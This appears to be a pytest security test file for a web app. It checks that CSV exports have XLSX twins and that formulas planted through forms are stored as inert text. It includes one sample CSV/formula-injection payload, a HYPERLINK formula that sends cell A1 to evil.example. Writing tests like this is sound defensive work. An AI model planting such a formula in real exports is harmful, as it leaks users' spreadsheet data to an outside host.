"""Every CSV export has an Excel twin (issue 21): the same columns and rows,
cells typed (numbers, dates), and no cell a spreadsheet runs as a formula –
checked on the demo data after a formula was planted through every form
(the `planted` fixture of the CSV injection suite)."""

import io
from datetime import datetime

from openpyxl import load_workbook

from tests.security.conftest import visitor_client
from tests.security.discovery import Site, Visit
from tests.security.test_csv_injection import cells as csv_cells
from tests.security.test_csv_injection import csv_exports
from toolbox.web.csvexport import FORMULA_STARTS, neutralise
from toolbox.web.xlsxexport import XLSX_TYPE

HYPERLINK = '=HYPERLINK("https://evil.example/?d="&A1;"Öppna")'


def xlsx_exports(site: Site) -> dict[str, Visit]:
    return {v.url: v for v in site.downloads() if v.content_type.startswith(XLSX_TYPE)}


def twin(url: str) -> str:
    return url.replace("export.csv", "export.xlsx", 1)


def as_csv_text(cell) -> str:
    """What the CSV holds for this typed cell."""
    value = cell.value
    if cell.number_format == "0.0" and value is not None:
        value = float(value)
    elif isinstance(value, datetime) and cell.number_format == "yyyy-mm-dd":
        value = value.date()
    return neutralise(value)


def test_every_csv_export_has_an_xlsx_twin_linked_beside_it(site):
    found = xlsx_exports(site)
    assert {visit.endpoint for visit in found.values()} >= {
        "tasks.export_xlsx",
        "catalog.export_xlsx",
        "analysis.export_xlsx",
    }
    missing = [v.url for v in csv_exports(site) if twin(v.url) not in found]
    assert missing == []


def test_xlsx_holds_the_csvs_cells_typed_and_formulas_as_text(
    demo_app, demo_seed, site, planted, figure
):
    assert planted >= 25
    compared = typed = defused = 0
    for export in csv_exports(site):
        client = visitor_client(demo_app, export.role, demo_seed.prepared)
        csv_response = client.get(export.url)
        response = client.get(twin(export.url))
        assert response.status_code == 200, twin(export.url)
        assert response.headers["Content-Type"] == XLSX_TYPE
        assert response.headers["Content-Disposition"].endswith('.xlsx"')
        sheet = load_workbook(io.BytesIO(response.data)).active
        rows = list(sheet.iter_rows())
        width = max(len(row) for row in rows)
        expected = csv_cells(csv_response.get_data(as_text=True))
        got = [as_csv_text(cell) for row in rows for cell in row]
        assert len(got) == len(rows) * width
        assert got == expected, export.url
        compared += 1
        for row in rows:
            for cell in row:
                assert cell.data_type != "f", f"{export.url} {cell.coordinate}: {cell.value!r}"
                typed += cell.data_type == "n" and cell.value is not None
                if isinstance(cell.value, str) and cell.value.startswith(FORMULA_STARTS):
                    assert cell.data_type == "s"
                    assert cell.quotePrefix, f"{export.url} {cell.coordinate}"
                    defused += 1
    assert compared == len(csv_exports(site))
    assert typed >= 20  # hours, counts, figures and dates are numbers, not text
    assert defused >= 10
    figure("XLSX: exports compared with their CSV", compared)
    figure("XLSX: planted formulas that reached an export, kept as text", defused)


def test_a_planted_hyperlink_comes_out_as_text(demo_app, demo_seed, site, planted):
    seen = []
    for export in csv_exports(site):
        client = visitor_client(demo_app, export.role, demo_seed.prepared)
        sheet = load_workbook(io.BytesIO(client.get(twin(export.url)).data)).active
        seen += [cell for row in sheet.iter_rows() for cell in row if cell.value == HYPERLINK]
    assert seen
    for cell in seen:
        assert cell.data_type == "s"
        assert cell.quotePrefix
